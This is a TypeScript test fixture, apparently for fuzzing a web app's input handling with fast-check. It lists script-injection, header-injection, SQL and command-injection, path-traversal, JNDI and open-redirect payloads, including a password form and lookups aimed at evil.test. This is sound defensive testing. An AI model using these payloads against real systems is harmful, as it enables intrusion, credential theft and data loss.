// What people send who mean harm: texts that have broken servers, pages, headers and tables before.
import fc from 'fast-check'
import { anyText } from '../harness/texts.ts'

/** Occurs in every text that would be a script, so that it can be found again wherever it comes out. */
export const mark = 'm4rkm4rk'

export const scripts: readonly string[] = [
  `<script>${mark}</script>`,
  `"><script>${mark}</script>`,
  `'><img src=x onerror=${mark}>`,
  `</title><script>${mark}</script>`,
  `</style><script>${mark}</script>`,
  `--><script>${mark}</script>`,
  `<svg/onload=${mark}>`,
  `" onfocus=${mark} autofocus x="`,
  `' onmouseover='${mark}`,
  `\`><script>${mark}\``,
  `javascript:${mark}//`,
  `<a href="javascript:${mark}">x</a>`,
  `<iframe srcdoc="<script>${mark}</script>">`,
  `<math><mi//xlink:href="data:x,<script>${mark}</script>">`,
  `<base href="//evil.test/${mark}">`,
  `<meta http-equiv=refresh content="0;url=//evil.test/${mark}">`,
  `<form action="//evil.test/${mark}"><input name=password>`,
  `&lt;script&gt;${mark}&lt;/script&gt;`,
  `&#60;script&#62;${mark}`,
  `\u003cscript\u003e${mark}`,
  `{{constructor.constructor('${mark}')()}}`,
  `\${${mark}}`,
  `<%= ${mark} %>`,
  `\ufeff<script>${mark}</script>`,
  `<scr\u0000ipt>${mark}</script>`,
  `<ſcript>${mark}</ſcript>`,
  `＜script＞${mark}＜/script＞`,
  `\u202e<script>${mark}</script>`,
]

/** Line ends, in all the ways in which they have become header lines. */
export const lineEnds: readonly string[] = [
  '\r\nX-Injected: 1',
  '\nX-Injected: 1',
  '\rX-Injected: 1',
  '\r\n\r\n<script>1</script>',
  '%0d%0aX-Injected: 1',
  '%0D%0A%20X-Injected: 1',
  '\u010d\u010aX-Injected: 1',
  '\u560d\u560aX-Injected: 1',
  '\u2028X-Injected: 1',
  '\u0085X-Injected: 1',
  '\v\fX-Injected: 1',
  '\r\n Set-Cookie: __Host-sid=evil',
]

/** Statements, templates and paths for whatever may stand behind. */
export const injections: readonly string[] = [
  "' or '1'='1",
  "'; drop table users; --",
  '" or ""="',
  "admin'--",
  "1' union select sealed_hash from passwords --",
  "')) or 1=1 --",
  '%27%20or%201=1',
  "\\'; select pg_sleep(10); --",
  "' || (select randomblob(1000000000)) || '",
  '*)(uid=*))(|(uid=*',
  '$ne',
  '{"$gt":""}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd%00.png',
  '; cat /etc/passwd',
  '$(id)',
  '`id`',
  '| id',
  ['$', '{jndi:ldap://evil.test/a}'].join(''),
  '#{7*7}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'NaN',
  '-1',
  '1e400',
  '0x1F',
  '9007199254740993',
  'null',
  'undefined',
  'true',
  '[]',
  '[object Object]',
]

/** Addresses that look like ours, or like nothing, and lead away. */
export const elsewhere: readonly string[] = [
  '//evil.test',
  '///evil.test',
  '/\\evil.test',
  '\\\\evil.test',
  '/\t/evil.test',
  '/%09/evil.test',
  '/%2f/evil.test',
  '/%5cevil.test',
  '/.evil.test',
  '/..//evil.test',
  '/account/..//evil.test',
  'https:evil.test',
  'https:/evil.test',
  'https:///evil.test',
  'https://evil.test',
  'http://evil.test',
  'HTTPS://EVIL.TEST',
  ' https://evil.test',
  '\thttps://evil.test',
  '\ufeffhttps://evil.test',
  'https://id.example.test@evil.test',
  'https://id.example.test.evil.test',
  'https://evil.test#id.example.test',
  'https://evil.test?id.example.test',
  'https://evil.test\\@id.example.test',
  '/@evil.test',
  '/account@evil.test',
  '//id.example.test@evil.test',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>1</script>',
  'vbscript:msgbox(1)',
  'blob:https://evil.test/1',
  'file:///etc/passwd',
  'about:blank',
  'view-source:https://evil.test',
]

/** What no UTF-8 or no escape is, as it goes over the wire. */
export const brokenEscapes: readonly string[] = [
  '%',
  '%0',
  '%g1',
  '%%41',
  '%u0041',
  '%ff',
  '%c0%80',
  '%c0%af',
  '%e0%80%af',
  '%ed%a0%80',
  '%ed%a0%bd%ed%b8%80',
  '%f4%90%80%80',
  '%f8%88%80%80%80',
  '%00',
  'a%00b',
  '%ef%bf%bf',
  '%ef%bb%bf',
]

const anything = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...scripts, ...lineEnds, ...injections, ...elsewhere) },
  { weight: 2, arbitrary: anyText({ maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('', ' ', 'a'.repeat(3000), '\u{1f511}'.repeat(200), '('.repeat(500)),
  },
)

/** Any value in the encoding of forms, right or broken. */
export const anyEncoded = fc.oneof(
  { weight: 24, arbitrary: anything.map((text) => encodeURIComponent(text)) },
  { weight: 4, arbitrary: anything.map((text) => encodeURIComponent(encodeURIComponent(text))) },
  { weight: 1, arbitrary: fc.constantFrom(...brokenEscapes) },
)

/** A header's value as the wire can carry it: bytes without the ends of lines. */
export const anyHeaderValue = anything.map((text) =>
  Buffer.from(text.replaceAll(/[\r\n\0]/g, ' '), 'utf8')
    .toString('latin1')
    .slice(0, 2000),
)
